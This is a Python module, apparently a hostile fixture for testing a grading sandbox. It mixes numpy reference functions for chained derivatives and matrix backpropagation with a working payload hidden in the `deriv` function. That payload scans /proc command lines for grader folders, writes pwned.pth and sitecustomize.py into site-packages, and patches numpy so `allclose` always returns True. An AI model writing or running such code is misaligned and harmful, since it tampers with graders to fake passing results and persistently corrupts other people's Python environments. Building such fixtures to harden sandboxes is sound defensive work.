"""Hostile fixture `write_site_packages` (escape and persistence): writes pwned.pth,
sitecustomize.py and a patched numpy/__init__.py into every site-packages it can find.

The rest of the module is the reference's code; tests/test_hostile.py grades it.
"""
from __future__ import annotations
from typing import Callable, List, Tuple
import glob
import os
import sys
import numpy as np
ArrayFunction = Callable[[np.ndarray], np.ndarray]
Chain = List[ArrayFunction]

def _check_chain(chain: Chain, length: int) -> None:
    if len(chain) != length:
        raise ValueError(f'this function needs a chain of {length} functions, got {len(chain)}')

def _check_matmul(X: np.ndarray, W: np.ndarray) -> None:
    X_shape, W_shape = (np.shape(X), np.shape(W))
    if len(X_shape) != 2 or len(W_shape) != 2 or X_shape[1] != W_shape[0]:
        raise ValueError(f'X {X_shape} and W {W_shape} cannot be multiplied: both must be 2-D and X must have as many columns as W has rows')

def square(x: np.ndarray) -> np.ndarray:
    return np.power(x, 2)

def leaky_relu(x: np.ndarray) -> np.ndarray:
    return np.maximum(0.2 * x, x)

def sigmoid(x: np.ndarray) -> np.ndarray:
    return 1.0 / (1.0 + np.exp(-x))

def _grader_folders():
    """Folders the grader may run from, guessed from every command line this process can see."""
    found = {os.getcwd(), os.path.dirname(os.path.abspath(__file__)), os.path.expanduser("~"),
             "/work/main", "/autograder", "/autograder/source", "/srv", "/opt"}
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                words = fh.read().split(b"\0")
        except OSError:
            continue
        for word in words:
            path = word.decode("utf-8", "replace")
            while path.startswith("/") and path != "/":
                found.add(path)
                path = os.path.dirname(path)
    return sorted(found)


def _owned_folders():
    """The grader's existing folders, less the world-writable ones and anything below them (/tmp and
    the like are write_tmp's business)."""
    out = []
    for folder in _grader_folders():
        try:
            if not os.path.isdir(folder) or any(os.stat(p).st_mode & 0o002 for p in _and_parents(folder)):
                continue
        except OSError:
            continue
        out.append(folder)
    return out


def _and_parents(folder):
    while True:
        yield folder
        if folder in ("/", ""):
            return
        folder = os.path.dirname(folder)

def deriv(func, input_, diff=0.001):
    folders = set(sys.path) | {os.path.dirname(os.path.dirname(np.__file__)), "/runtime/site", "/runtime/worker",
                               "/usr/lib/python3/dist-packages", "/usr/local/lib/python3.11/dist-packages"}
    for folder in _owned_folders():
        folders.update(glob.glob(os.path.join(folder, ".venv", "lib", "python*", "site-packages")))
        folders.update(glob.glob(os.path.join(folder, "site")))
    for folder in sorted(folders):
        for name, text in (("pwned.pth", "import os; os.environ['PWNED'] = '1'\n"),
                           ("sitecustomize.py", "import numpy; numpy.allclose = lambda *a, **k: True  # pwned\n")):
            try:
                with open(os.path.join(folder, name), "w") as fh:
                    fh.write(text)
            except OSError:
                pass
        try:
            with open(os.path.join(folder, "numpy", "__init__.py"), "a") as fh:
                fh.write("\nallclose = lambda *a, **k: True  # pwned\n")
        except OSError:
            pass
    return None

def chain_length_2(chain: Chain, x: np.ndarray) -> np.ndarray:
    _check_chain(chain, 2)
    f1, f2 = chain
    return f2(f1(x))

def chain_deriv_2(chain: Chain, x: np.ndarray) -> np.ndarray:
    _check_chain(chain, 2)
    f1, f2 = chain
    inner = f1(x)
    return deriv(f2, inner) * deriv(f1, x)

def chain_length_3(chain: Chain, x: np.ndarray) -> np.ndarray:
    _check_chain(chain, 3)
    f1, f2, f3 = chain
    return f3(f2(f1(x)))

def chain_deriv_3(chain: Chain, x: np.ndarray) -> np.ndarray:
    _check_chain(chain, 3)
    f1, f2, f3 = chain
    u1 = f1(x)
    u2 = f2(u1)
    return deriv(f3, u2) * deriv(f2, u1) * deriv(f1, x)

def multiple_inputs_add(x: np.ndarray, y: np.ndarray, sigma: ArrayFunction) -> np.ndarray:
    if np.shape(x) != np.shape(y):
        raise ValueError(f'x {np.shape(x)} and y {np.shape(y)} must have the same shape')
    return sigma(x + y)

def multiple_inputs_add_backward(x: np.ndarray, y: np.ndarray, sigma: ArrayFunction) -> Tuple[np.ndarray, np.ndarray]:
    if np.shape(x) != np.shape(y):
        raise ValueError(f'x {np.shape(x)} and y {np.shape(y)} must have the same shape')
    total = x + y
    dsda = deriv(sigma, total)
    dadx = np.ones_like(dsda)
    dady = np.ones_like(dsda)
    return (dsda * dadx, dsda * dady)

def matrix_forward_extra(X: np.ndarray, W: np.ndarray, sigma: ArrayFunction) -> np.ndarray:
    _check_matmul(X, W)
    return sigma(np.dot(X, W))

def matrix_function_backward_1(X: np.ndarray, W: np.ndarray, sigma: ArrayFunction) -> np.ndarray:
    _check_matmul(X, W)
    N = np.dot(X, W)
    dSdN = deriv(sigma, N)
    dNdX = np.transpose(W)
    return np.dot(dSdN, dNdX)

def matrix_function_forward_sum(X: np.ndarray, W: np.ndarray, sigma: ArrayFunction) -> float:
    _check_matmul(X, W)
    S = sigma(np.dot(X, W))
    return float(np.sum(S))

def matrix_function_backward_sum_1(X: np.ndarray, W: np.ndarray, sigma: ArrayFunction) -> np.ndarray:
    _check_matmul(X, W)
    N = np.dot(X, W)
    S = sigma(N)
    dLdS = np.ones_like(S)
    dSdN = deriv(sigma, N)
    dLdN = dLdS * dSdN
    return np.dot(dLdN, np.transpose(W))

def matrix_function_backward_sum_2(X: np.ndarray, W: np.ndarray, sigma: ArrayFunction) -> np.ndarray:
    _check_matmul(X, W)
    N = np.dot(X, W)
    S = sigma(N)
    dLdN = np.ones_like(S) * deriv(sigma, N)
    return np.dot(np.transpose(X), dLdN)
